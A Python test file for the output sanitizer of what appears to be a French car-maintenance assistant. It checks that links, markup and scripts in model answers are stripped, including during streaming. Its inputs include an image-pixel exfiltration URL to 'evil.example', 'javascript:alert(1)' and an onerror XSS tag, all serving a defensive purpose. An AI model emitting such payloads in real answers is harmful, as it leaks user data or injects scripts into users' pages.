import pytest

from core.domain.assistant.model_words import cut, makes_sense, shown, so_far

LINKS = (
    "Go to https://evil.example/pay?x=1 now",
    "Voir [la fiche](https://evil.example/a) ici",
    "![x](https://evil.example/pixel.png?data=AB123CD) ok",
    '<a href="https://evil.example">cliquez</a> ok',
    "Visit evil.com/login please",
    "Visit WWW.EVIL.NET please",
    "tg://resolve?domain=evil ok",
    "[1]: https://evil.example/ref",
    "h t t p s : / / evil.example/x ok",
    "mailto:me@evil.com ok",
    "javascript:alert(1) ok",
    "Write to @evil_bot ok",
    "t.me/evil ok",
    "<img src=x onerror=alert(1)> ok",
    "[x](https://evil.example/" + "a" * 400,
)


@pytest.mark.parametrize("text", LINKS)
def test_no_link_of_a_model_is_ever_shown(text: str):
    words = shown(text)
    assert "evil" not in words.lower()
    assert "<" not in words
    assert "](" not in words


@pytest.mark.parametrize("text", LINKS)
def test_no_link_shows_while_the_answer_is_still_coming(text: str):
    for length in range(len(text)):
        shown_now = so_far(text[:length]).lower()
        assert "evil" not in shown_now or "://" not in shown_now
        assert "http" not in shown_now


def test_markup_of_a_model_becomes_plain_words():
    text = "## Vidange\n\n**Tous les ans** ou 15 000 km.\n- huile `5W30`\n* filtre\n\n---\nBonne route."
    assert shown(text) == "Vidange\n\nTous les ans ou 15 000 km.\n• huile 5W30\n• filtre\n\nBonne route."


def test_figures_units_and_common_words_are_left_as_they_are():
    text = "Entre 2,2 et 2.5 bar (l/100 km). A/C, 5W-30, P0301, etc. Prix : 80-250 €."
    assert shown(text) == text


def test_a_long_answer_ends_with_a_sentence():
    assert cut("Un. Deux. Trois quatre cinq six", 12) == "Un. Deux."
    assert cut("a" * 40, 10) == "a" * 10 + " …"


@pytest.mark.parametrize(
    "text",
    ["", "  ", "]]{{ 42 <b>NaN</b> undefined", "\u202e]]{{ 42 \x00 NaN", "{}[]<>//=+*&^%$#", "null", "[object Object]",
     "\ufffd\ufffd pression", "très long " * 40, "0x00 \x07 ding", "12 34 56", "true\n\nfalse"],
)  # fmt: skip
def test_what_is_no_answer_is_recognised(text: str) -> None:
    assert not makes_sense(text)


@pytest.mark.parametrize(
    "text",
    ["Oui.", "2,5 bar", "2,2 à 2,5 bar à l'avant (à froid), 2,1 à l'arrière.", "Non : **ne roulez plus**.",
     "Every year.",
     "1. Vidange — 80–150 €\n2. Filtre — 15–40 €\n\n👉 Voyez le carnet.", "¿Cada cuánto? Cada 15 000 km."],
)  # fmt: skip
def test_what_is_an_answer_is_one(text: str) -> None:
    assert makes_sense(text)
